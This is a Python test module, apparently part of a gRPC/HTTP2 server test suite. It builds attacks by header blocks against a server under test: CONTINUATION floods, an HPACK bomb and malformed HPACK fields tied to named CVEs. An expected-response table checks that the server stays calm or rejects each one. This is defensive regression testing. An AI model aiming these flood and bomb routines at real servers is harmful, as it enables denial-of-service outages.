"""Attacks by header blocks."""

from attacker import CONTINUATION, UNARY, Attacker, integer, literal, request
from floods import CALM
from grpc_call import envelope
from raw_http2 import DATA, END_HEADERS, END_STREAM, HEADERS, frame


def one_call(server, block, body=envelope(b""), end=True):
    """`end`: the request ends with its body."""
    attacker = Attacker(server)
    end = attacker.call(1, block, body, end)
    attacker.close()
    return end


def block_in_parts(server, block):
    """A block of any length, in HEADERS and CONTINUATION."""
    attacker = Attacker(server)
    parts = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    for i, part in enumerate(parts):
        last = END_HEADERS if i == len(parts) - 1 else 0
        if not attacker.send(frame(CONTINUATION if i else HEADERS, last, 1, part)):
            break
    attacker.send(frame(DATA, END_STREAM, 1, envelope(b"")))
    attacker.read_until(lambda: attacker.is_over(1))
    end = attacker.stream_end(1)
    attacker.close()
    return end


def continuation_flood(server):
    """CVE-2024-27316, CVE-2024-28182"""
    attacker = Attacker(server)
    attacker.send(frame(HEADERS, 0, 1, request()))
    while attacker.sent < 16 << 20 and attacker.send(frame(CONTINUATION, 0, 1, literal("a", "b") * 2000)):
        pass
    end = attacker.wait_for_end()
    attacker.close()
    return end


def empty_continuation_flood(server):
    attacker = Attacker(server)
    attacker.send(frame(HEADERS, 0, 1, request()))
    for _ in range(1000):
        if not attacker.send(frame(CONTINUATION, 0, 1) * 100):
            break
    end = attacker.wait_for_end()
    attacker.close()
    return end


def hpack_bomb(server):
    """CVE-2016-6581, and the bombs of 2026: one field in the table, then thousands of references to it."""
    block = request() + literal("bomb", "x" * 3500, indexed=True) + integer(62, 7, 0x80) * 12_000
    return block_in_parts(server, block)


def many_cookie_crumbs(server):
    return block_in_parts(server, request() + literal("cookie", "a=b") * 3000)


def headers_over_the_limit(server):
    return block_in_parts(server, request(extra=[("x", "y" * 20_000)]))


def too_many_fields(server):
    return block_in_parts(server, request() + literal("a", "") * 200)


def long_integers(server):
    """CVE-2023-33953: integers that are padded without end."""
    return one_call(server, request() + b"\0\x7f" + b"\x80" * 1000 + b"\0")


def empty_names(server):
    """CVE-2019-9516"""
    return one_call(server, request() + literal("", "") * 10)


def bad_base64(server):
    """CVE-2023-32732: one field of one call, and not the connection that others share."""
    return one_call(server, request(extra=[("x-bin", "!!!"), ("y-bin", "=")]))


def invalid_values(server):
    """CVE-2023-1428, CVE-2023-32731: values that nobody likes leave no trace in the next block."""
    attacker = Attacker(server)
    odd = request() + literal("odd", b"caf\xe9 \x80\xff", indexed=True)
    ends = {attacker.call(stream, odd + integer(62, 7, 0x80), envelope(b"")) for stream in (1, 3, 5)}
    ends.add(attacker.call(7, request(), envelope(b"")))
    attacker.close()
    return ", ".join(sorted(ends))


def path_without_slash(server):
    """CVE-2026-33186"""
    return one_call(server, request(UNARY[1:]))


EXPECTED = {
    continuation_flood: CALM,
    empty_continuation_flood: CALM,
    hpack_bomb: CALM,
    many_cookie_crumbs: CALM,
    headers_over_the_limit: "status 8",
    too_many_fields: "status 8",
    long_integers: "GOAWAY COMPRESSION_ERROR",
    empty_names: "RST_STREAM PROTOCOL_ERROR",
    bad_base64: "status 0",
    invalid_values: "status 0",
    path_without_slash: "status 12",
}
